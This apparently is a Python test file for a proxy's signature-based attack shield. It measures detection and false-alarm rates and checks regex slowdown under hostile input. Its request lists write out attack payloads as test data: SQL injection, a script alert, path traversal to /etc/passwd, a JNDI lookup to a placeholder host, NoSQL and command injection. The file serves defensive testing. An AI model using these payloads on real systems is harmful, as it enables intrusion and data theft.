"""How much the shield finds, how often it cries wolf, and that no text makes it slow.

The rates are measured on corpora and printed; what is asserted are bounds that a careless
change of a rule would break.
"""

from __future__ import annotations

import time
from collections import Counter
from collections.abc import Callable
from math import inf
from pathlib import Path
from typing import Any, Final

import orjson
import pytest

from proxy.policies.shield.inspection import Inspector
from proxy.policies.shield.rule import Rule
from proxy.policies.shield.rules import RULES
from proxy.policies.shield.signatures import Signatures
from tests.integration.client import ask, request
from tests.security.payloads import corpus, library_texts, sqlmap_values, table
from tests.security.stage import staged

THRESHOLD: Final = 5
SHIELD: Final = Signatures(tuple(rule for rule in RULES if rule.level == "normal"))

# Where values of a kind are really put.
PLACES: Final = {
    "names": ("query", "form", "json"),
    "prose": ("query", "form", "json"),
    "markdown": ("form", "json"),
    "code": ("form", "json"),
    "lines": ("form", "json"),
    "queries": ("query",),
    "headers": ("header",),
    "cookies": ("cookie",),
}


def score(text: str, place: str) -> int:
    """The score of a value in a place."""
    return sum(rule.score for rule in SHIELD.matches(text, 2) if place in rule.places)


def test_attacks_are_found(show: Callable[[str], None]) -> None:
    rows: list[tuple[Any, ...]] = [("family", "values", "query", "form", "json")]
    missed: dict[str, list[str]] = {}
    for family, values in corpus("attacks").items():
        found = Counter[str]()
        for value in values:
            for place in ("query", "form", "json"):
                hit = score(value, place) >= THRESHOLD
                found[place] += hit
                if not hit:
                    missed.setdefault(place, []).append(value)
        rates = [f"{found[place] / len(values):.0%}" for place in ("query", "form", "json")]
        rows.append((family, len(values), *rates))
    show(table("Detection by the shield, own corpus", rows))
    assert missed == {}


def test_what_sqlmap_would_send_is_found(show: Callable[[str], None]) -> None:
    values = sqlmap_values(3000)
    rows: list[tuple[Any, ...]] = [("place", "values", "found")]
    rates = {}
    for place in ("query", "form", "json", "cookie", "header"):
        rates[place] = sum(score(value, place) >= THRESHOLD for value in values) / len(values)
        rows.append((place, len(values), f"{rates[place]:.1%}"))
    show(table("Detection by the shield, sqlmap's templates", rows))
    assert min(rates[place] for place in ("query", "form", "json", "cookie")) > 0.99
    assert rates["header"] > 0.95


def test_ordinary_values_pass(show: Callable[[str], None]) -> None:
    rows: list[tuple[Any, ...]] = [("kind", "values", "refused")]
    refused: list[tuple[str, str]] = []
    for kind, values in corpus("ordinary").items():
        wrong = [
            (place, value)
            for value in values
            for place in PLACES[kind]
            if score(value, place) >= THRESHOLD
        ]
        refused += wrong
        rows.append((kind, len(values), len(wrong)))
    show(table("False alarms of the shield, own corpus", rows))
    assert refused == []


def test_python_s_own_texts_and_sources_pass(show: Callable[[str], None]) -> None:
    counts, refused = Counter[str](), Counter[str]()
    for kind, text in library_texts(250):
        counts[kind] += 1
        refused[kind] += score(text, "json") >= THRESHOLD
    rows: list[tuple[Any, ...]] = [("kind", "values", "refused", "rate")]
    for kind, count in counts.items():
        rows.append((kind, count, refused[kind], f"{refused[kind] / count:.2%}"))
    show(table("False alarms of the shield, Python's library", rows))
    assert counts["prose"] > 2000
    assert counts["code"] > 2000
    assert refused["prose"] / counts["prose"] < 0.001
    assert refused["code"] / counts["code"] < 0.003


HOSTILE: Final = [
    "a", " ", "'", '"', "(", ")", "<a ", "../", "\\", ";", "1", "1 or ", "' or ", "or 1=",
    "union select ", "select a,", "${", "${a:", "{{", "\r\n", " on", "/*", "&#", "javascript",
    "http://", "a.b,", "x=x ", "é", "--", "`", "$(", "a;",
]  # fmt: skip


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.name)
def test_no_text_makes_a_rule_slow(rule: Rule) -> None:
    """Eight times the text may take 24 times as long: what is quadratic takes 64 times."""
    alone = Signatures((rule,))

    def seconds(text: str, enough: float = 0.0) -> float:
        """The least of some tries, as much as it takes without what else goes on beside it."""
        least = inf
        for number in range(20):
            began = time.process_time()
            alone.suspect([text], 0)
            least = min(least, time.process_time() - began)
            if number and (not enough or least < enough):
                break
        return least

    for unit in HOSTILE:
        small, large = unit * (2000 // len(unit)), unit * (16_000 // len(unit))
        most = 24 * max(seconds(small), 0.0005)
        assert seconds(large, most) < most, (rule.name, unit)


def test_no_request_makes_them_all_slow() -> None:
    """The worst of it: every value looked at closely, all rules together, a whole body."""
    inspector = Inspector(SHIELD, 2, ())
    for unit in HOSTILE:
        text = "' or 1=1-- " + unit * (128 * 1024 // len(unit.encode()))
        began = time.process_time()
        inspector._signatures.suspect([text], 2)
        inspector._signatures.matches(text, 2)
        assert time.process_time() - began < 1.5, unit


# -- through the proxy -------------------------------------------------------------------------

REFUSED: Final = [
    request("GET", "/api/users?id=1';%20DROP%20TABLE%20users;--"),
    request("GET", "/api/users?id=1'%20OR%20'1'='1"),
    request("GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"),
    request("GET", "/download?file=../../etc/passwd"),
    request("GET", "/", cookie="id=1' or 1=1--"),
    request("GET", "/", user_agent="${jndi:ldap://x.test/a}"),
    request("POST", "/", b'{"user": {"$ne": null}}', content_type="application/json"),
    request("POST", "/", b"host=127.0.0.1%3Bid", content_type="application/x-www-form-urlencoded"),
]
PASSED: Final = [
    request("GET", "/api/users?name=O%27Brien"),
    request("POST", "/", orjson.dumps({"text": "select a seat from the union hall"}),
            content_type="application/json"),
    request("POST", "/", orjson.dumps({"name": "O'Brien", "bio": "# Hi\n\n`ls -la`; it's *me*"}),
            content_type="application/json"),
    request("POST", "/", orjson.dumps({"code": "for x in y:\n    if x == 'a' or z: print(x)"}),
            content_type="application/json"),
]  # fmt: skip


async def test_enforced_it_refuses_attacks_and_no_more(tmp_path: Path) -> None:
    config = {"policies": {"shield": {"mode": "enforce"}}}
    async with staged(tmp_path, config=config) as stage:
        for data in REFUSED:
            answer = await ask(stage.gateway.url, data)
            assert (answer.status, answer.error) == (400, "suspicious_input"), data
            assert b"script" not in answer.body
            assert b"sqli" not in answer.body, "which rule it was helps only the attacker"
        assert stage.witness.heard == []
        for data in PASSED:
            assert (await ask(stage.gateway.url, data)).status == 200, data
        assert [heard.body for heard in stage.witness.heard] == [
            data.partition(b"\r\n\r\n")[2] for data in PASSED
        ]
        lines = await stage.gateway.lines(count=len(REFUSED + PASSED))
        assert lines[0]["details"]["shield"].endswith("in query:id, score 15")


async def test_by_default_it_watches(tmp_path: Path) -> None:
    async with staged(tmp_path, config={"policies": {"shield": True}}) as stage:
        for data in (*REFUSED, *PASSED):
            assert (await ask(stage.gateway.url, data)).status == 200, data
        assert [heard.body for heard in stage.witness.heard] == [
            data.partition(b"\r\n\r\n")[2] for data in (*REFUSED, *PASSED)
        ]
        lines = await stage.gateway.lines(count=len(REFUSED + PASSED))
        outcomes = [line["decisions"]["shield"] for line in lines]
        assert outcomes == ["would_refuse"] * len(REFUSED) + ["admitted"] * len(PASSED)
        metrics = await stage.gateway.metrics()
        series = 'sidegate_shield_matches_total{family="sqli",route="default"}'
        assert metrics[series] == 3
